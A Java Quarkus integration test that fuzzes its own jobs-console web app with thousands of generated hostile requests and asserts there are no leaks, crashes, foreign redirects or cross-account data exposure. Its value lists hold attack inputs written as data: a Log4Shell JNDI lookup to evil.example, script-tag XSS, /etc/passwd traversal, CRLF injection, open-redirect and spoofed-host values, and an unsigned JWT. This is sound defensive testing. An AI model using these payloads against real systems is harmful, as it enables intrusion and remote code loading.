package io.jobsconsole.attack;

import static org.assertj.core.api.Assertions.assertThat;

import io.jobsconsole.web.ConsoleSession;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.io.IOException;
import java.net.SocketTimeoutException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.Callable;
import java.util.concurrent.Executors;
import org.junit.jupiter.api.Test;

/**
 * Sends generated malicious requests. The seed is fixed, so that failures repeat; {@code -Pattack} sends fifty times as
 * many, each time from another seed.
 */
@QuarkusTest
@WithTestResource(HostileApi.class)
class AttackIT {

    private static final int REQUESTS = Integer.getInteger("attack.requests", 20_000);
    private static final long SEED = Long.getLong("attack.seed", 1);
    private static final int WORKERS = 8;

    private static final List<String> METHODS = List.of(
            "GET",
            "GET",
            "GET",
            "GET",
            "GET",
            "GET",
            "GET",
            "HEAD",
            "POST",
            "PUT",
            "DELETE",
            "PATCH",
            "OPTIONS",
            "TRACE",
            "PROPFIND",
            "CONNECT",
            "BREW");

    private static final List<String> PARAMETERS = List.of(
            "states",
            "corpus",
            "since",
            "since_at",
            "until",
            "ended",
            "type",
            "by",
            "ran",
            "waited",
            "text",
            "group",
            "job",
            "limit",
            "page",
            "pageKey",
            "trail",
            "asOf",
            "check",
            "sort",
            "view",
            "scale",
            "refresh",
            "back",
            "tz",
            "theme",
            "state",
            "code",
            "error",
            "session_state",
            "iss",
            "x");

    private static final List<String> PATHS = List.of(
            "/",
            "/jobs",
            "/accounts",
            "/accounts/demo/jobs",
            "/accounts/demo/jobs",
            "/accounts/locked/jobs",
            "/accounts/demo-v2/jobs",
            "/accounts/demo/jobs/job_1",
            "/accounts/locked/jobs/job_1",
            "/accounts/demo/jobs.csv",
            "/accounts/locked/jobs.json",
            "/accounts/hostile/jobs",
            "/accounts/hostile-v2/jobs",
            "/accounts/nope/jobs",
            "/preferences",
            "/prefs",
            "/help/links",
            "/help/keys",
            "/help/alerts",
            "/callback",
            "/logout",
            "/signed-out",
            "/sign-in-error",
            "/back-channel-logout",
            "/csp-report",
            "/openapi",
            "/assets/console.css",
            "/q/health",
            "/q/dev-ui",
            "/favicon.ico");

    private static final List<String> HEADERS = List.of(
            "Accept",
            "Accept-Language",
            "Accept-Encoding",
            "Authorization",
            "Content-Type",
            "Cookie",
            "Origin",
            "Referer",
            "Sec-Fetch-Site",
            "Sec-Fetch-Mode",
            "Sec-Fetch-Dest",
            "Sec-Purpose",
            "X-Forwarded-For",
            "X-Forwarded-Host",
            "X-Forwarded-Proto",
            "X-Forwarded-Prefix",
            "Forwarded",
            "X-Original-URL",
            "X-Rewrite-URL",
            "X-HTTP-Method-Override",
            "Range",
            "If-None-Match",
            "If-Modified-Since",
            "If-Match",
            "Upgrade",
            "Via",
            "X-Requested-With",
            "User-Agent",
            "X-Request-Id",
            "Timeout",
            "customer-id",
            "x-api-key",
            "traceparent",
            "Max-Forwards");

    private static final List<String> VALUES = List.of(
            "",
            "*",
            "*/*",
            "text/html",
            "application/json",
            "text/html;q=0",
            "null",
            "none",
            "cross-site",
            "same-origin",
            "navigate",
            "cors",
            "document",
            "iframe",
            "prefetch",
            "http://evil.example",
            "evil.example",
            "127.0.0.1",
            "for=1.2.3.4;host=evil.example;proto=https",
            "Bearer x",
            "Bearer eyJhbGciOiJub25lIn0.e30.",
            "Basic YTpi",
            "Bearer",
            "bytes=0-1,5-",
            "W/\"x\"",
            "\"",
            "h2c",
            "gzip;q=0",
            "br, gzip, deflate",
            "Thu, 01 Jan 1970 00:00:00 GMT",
            "${jndi:ldap://evil.example/a}",
            "<script>alert(1)</script>",
            "../../etc/passwd",
            "1".repeat(300),
            "é",
            "%0d%0a",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "zz-ZZ,x-klingon");

    private static final List<String> COOKIES = List.of(
            "q_session=x",
            "q_session=eyJhbGciOiJkaXIifQ..a.b.c",
            "q_session_chunk_1=x",
            "q_session_chunk_x=1",
            "q_session_chunk_=",
            "q_auth_00000000-0000-0000-0000-000000000000=x|y|z",
            "q_auth_x=1",
            "q_auth=1",
            "q_return_00000000=//evil.example",
            "q_return_x=1",
            "__Host-q_session=x",
            "q_post_logout=x",
            "q_session_at=1",
            "q_session_rt=1",
            "tz=../../etc",
            "tz=",
            "theme=<script>",
            "account=locked",
            "account=nope",
            "account=",
            "back=//evil.example",
            "back=%2F%2Fevil.example",
            "=",
            ";;;",
            "a",
            "\"",
            "x=" + "y".repeat(2_000),
            "é=é",
            "$Version=1");

    private enum Who {
        NOBODY,
        ALICE,
        BOB,
        BROKEN
    }

    @Test
    void breaksNothing() throws Exception {
        var secrets = ConsoleSession.newlySignedInAs("alice")
                .open("/accounts/locked/jobs?since=180d")
                .ids();
        assertThat(secrets).as("jobs that bob must not see").isNotEmpty();
        var pool = Executors.newFixedThreadPool(WORKERS);
        var histogram = new TreeMap<Integer, Integer>();
        var findings = new ArrayList<String>();
        var slowest = new Slowest(0, "");
        var signOuts = 0;
        try {
            var shares = new ArrayList<Callable<Share>>();
            for (var worker = 0; worker < WORKERS; worker++) {
                var random = new Random(SEED * 1_000 + worker);
                shares.add(() -> new Share(random, secrets).send(REQUESTS / WORKERS));
            }
            for (var share : pool.invokeAll(shares)) {
                share.get().statuses.forEach((status, count) -> histogram.merge(status, count, Integer::sum));
                findings.addAll(share.get().findings);
                slowest = slowest.or(share.get().slowest);
                signOuts += share.get().signOuts;
            }
        } finally {
            pool.shutdownNow();
        }
        System.out.printf(
                "G1: %d hostile requests, seed %d: %s%n",
                histogram.values().stream().mapToInt(Integer::intValue).sum(), SEED, histogram);
        System.out.printf(
                "G1: the slowest refusal took %d ms, %s; %d requests signed out%n",
                slowest.millis(), slowest.what(), signOuts);
        assertThat(findings).isEmpty();
        assertThat(histogram.getOrDefault(200, 0))
                .as("pages behind the hostile requests")
                .isGreaterThan(REQUESTS / 20);
    }

    private record Slowest(long millis, String what) {

        Slowest or(Slowest other) {
            return millis >= other.millis ? this : other;
        }
    }

    /** The requests of one worker. */
    private static final class Share {

        private final Random random;
        private final Map<Who, String> sessions = new EnumMap<>(Who.class);
        private final List<String> secrets;
        private final Map<Integer, Integer> statuses = new TreeMap<>();
        private final List<String> findings = new ArrayList<>();
        private Slowest slowest = new Slowest(0, "");
        private int signOuts;
        private String previous = "";

        Share(Random random, List<String> secrets) {
            this.random = random;
            this.secrets = secrets;
            signIn(Who.ALICE);
            signIn(Who.BOB);
        }

        private void signIn(Who who) {
            sessions.put(
                    who,
                    ConsoleSession.newlySignedInAs(who.name().toLowerCase()).cookieHeader());
        }

        Share send(int requests) throws IOException {
            try (var wire = new Wire()) {
                for (var sent = 0; sent < requests; sent++) {
                    send(wire);
                }
                for (var session : sessions.entrySet()) {
                    var page = wire.get("/preferences", Map.of("Cookie", session.getValue()));
                    if (page.status() != 200) {
                        findings.add("the session of " + session.getKey() + " was lost: " + page.status());
                    }
                }
            }
            return this;
        }

        private void send(Wire wire) throws IOException {
            var who = Who.values()[random.nextInt(4)];
            var method = one(METHODS);
            var target = target();
            var headers = headers(who);
            var body = method.matches("POST|PUT|PATCH") && random.nextBoolean() ? body() : "";
            var sent = method + " " + target + " " + headers.keySet() + " as " + who;
            try {
                var begun = System.nanoTime();
                var answer = wire.ask(method, target, headers, body);
                if (answer.status() / 100 == 4) {
                    slowest = slowest.or(
                            new Slowest((System.nanoTime() - begun) / 1_000_000, answer.status() + " to " + sent));
                }
                statuses.merge(answer.status(), 1, Integer::sum);
                previous = answer.status() + " to " + sent;
                judge(who, target, answer).forEach(finding -> findings.add(finding + ": " + sent));
                // A request may be a valid sign-out, which ends the session.
                if (answer.header("clear-site-data").isPresent() && sessions.containsKey(who)) {
                    signOuts++;
                    signIn(who);
                }
            } catch (SocketTimeoutException hung) {
                findings.add("hung: " + sent + " after " + previous);
                wire.close();
            }
        }

        private List<String> judge(Who who, String target, Wire.Answer answer) {
            var wrong = new ArrayList<String>();
            // A compromised API causes errors that the console reports as the API's, not as its own.
            if (answer.status() >= 500 && !(target.contains("/hostile") && answer.status() > 501)) {
                wrong.add("status " + answer.status());
            }
            Wire.leaks().stream()
                    .filter(leak -> answer.body().contains(leak))
                    .forEach(leak -> wrong.add("shows " + leak));
            if (answer.text().contains("evil.example\n")
                    || answer.header("location").filter(AttackIT::isElsewhere).isPresent()) {
                wrong.add("leads to " + answer.header("location"));
            }
            if (who != Who.ALICE && secrets.stream().anyMatch(answer.body()::contains)) {
                wrong.add("shows another account's jobs");
            }
            if (answer.status() > 0 && answer.header("content-security-policy").isEmpty() && !isMadeBeforeUs(answer)) {
                wrong.add("status " + answer.status() + " without our headers");
            }
            return wrong;
        }

        /** An answer of Vert.x itself, without the console, has neither a body nor headers. */
        private static boolean isMadeBeforeUs(Wire.Answer answer) {
            return answer.body().isEmpty() && List.of(400, 414, 431).contains(answer.status());
        }

        private String target() {
            var path = random.nextInt(4) == 0 ? generatedPath() : one(PATHS);
            if (path.startsWith("/accounts/hostile")) {
                return path + "?corpus=" + (HostileApi.NONSENSE + 1 + random.nextInt(1_000_000));
            }
            var parameters = new ArrayList<String>();
            for (var count = random.nextInt(6); count > 0; count--) {
                parameters.add(one(PARAMETERS) + (random.nextInt(9) == 0 ? "" : "=" + value()));
            }
            return parameters.isEmpty() ? path : path + "?" + String.join("&", parameters);
        }

        private String generatedPath() {
            var path = new StringBuilder("/");
            for (var count = 1 + random.nextInt(6); count > 0; count--) {
                path.append(random.nextInt(3) == 0 ? "/" : "").append(one(Payloads.pieces()));
            }
            return path.toString().replace(" ", "%20");
        }

        private String value() {
            return switch (random.nextInt(5)) {
                case 0 -> coded(one(Payloads.scripts()));
                case 1 -> coded(one(Payloads.redirects()));
                case 2 -> one(Payloads.pieces()).replace(" ", "%20").replace("&", "%26");
                case 3 ->
                    one(List.of(
                            "failed", "active", "24h", "180d", "1", "100", "created", "timeline", "calendar", "off"));
                default -> coded(new String(bytes(random.nextInt(60)), StandardCharsets.ISO_8859_1));
            };
        }

        private Map<String, String> headers(Who who) {
            var headers = new HashMap<String, String>();
            for (var count = random.nextInt(4); count > 0; count--) {
                headers.put(one(HEADERS), one(VALUES));
            }
            if (random.nextInt(30) == 0) {
                headers.put(
                        "Host",
                        one(List.of("evil.example", "localhost@evil.example", "", "[::1", "localhost:99999", "a b")));
            }
            var cookies = new ArrayList<String>();
            for (var count = random.nextInt(3); count > 0; count--) {
                cookies.add(one(COOKIES).replaceFirst("^([a-z_0-9-]+)=", ConsoleSession.named("$1") + "="));
            }
            if (sessions.containsKey(who)) {
                cookies.add(sessions.get(who));
            } else if (who == Who.BROKEN) {
                cookies.add(sessions.get(Who.ALICE).substring(0, 400 + random.nextInt(400)));
            }
            if (!cookies.isEmpty()) {
                headers.put("Cookie", String.join("; ", cookies));
            }
            return headers;
        }

        private String body() {
            return switch (random.nextInt(4)) {
                case 0 -> "logout_token=" + coded(one(Payloads.scripts()));
                case 1 -> "{\"csp-report\":{\"blocked-uri\":\"" + one(Payloads.pieces()) + "\"}}";
                case 2 -> "x".repeat(random.nextInt(20_000));
                default -> new String(bytes(random.nextInt(300)), StandardCharsets.ISO_8859_1);
            };
        }

        private byte[] bytes(int length) {
            var bytes = new byte[length];
            random.nextBytes(bytes);
            return bytes;
        }

        private <T> T one(List<T> of) {
            return of.get(random.nextInt(of.size()));
        }

        private static String coded(String value) {
            return URLEncoder.encode(value, StandardCharsets.UTF_8);
        }
    }

    /** The console's own redirects are paths; the Dev Service has another port of this machine. */
    static boolean isElsewhere(String location) {
        return !location.matches("(/(?![/\\\\])[^\\\\\\s]*|http://localhost:\\d+(/.*)?)");
    }
}
